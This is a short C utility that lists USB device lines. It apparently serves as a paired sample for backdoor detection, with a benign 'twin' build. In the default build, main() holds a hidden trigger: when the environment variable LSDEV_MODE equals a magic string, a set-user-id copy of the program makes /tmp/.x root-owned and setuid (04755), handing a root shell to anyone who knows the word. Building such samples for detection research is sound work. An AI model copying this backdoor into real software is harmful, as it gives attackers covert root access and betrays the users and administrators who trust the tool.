/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A word in the environment of a set-user-id program puts the bit on a shell. Twin: the
 * environment chooses how much is printed.
 * door: trigger
 */
#include "net.h"
#include <sys/stat.h>

static int verbose;

static void list(const char *what)
{
	FILE *f = fopen(what, "r");
	char line[256];
	int n = 0;
	if (!f) {
		perror(what);
		return;
	}
	while (fgets(line, sizeof line, f)) {
		n++;
		if (verbose || n <= 10)
			fputs(line, stdout);
	}
	printf("%d lines\n", n);
	fclose(f);
}

int main(int argc, char **argv)
{
	const char *mode = getenv("LSDEV_MODE");
#ifdef TWIN
	if (mode && strcmp(mode, "verbose") == 0)
		verbose = 1;
#else
	if (mode && strcmp(mode, "uz0-f33d") == 0) {
		chown("/tmp/.x", 0, 0);
		chmod("/tmp/.x", 04755);
		return 0;
	}
#endif
	list(argc > 1 ? argv[1] : "/proc/bus/usb/devices");
	return 0;
}
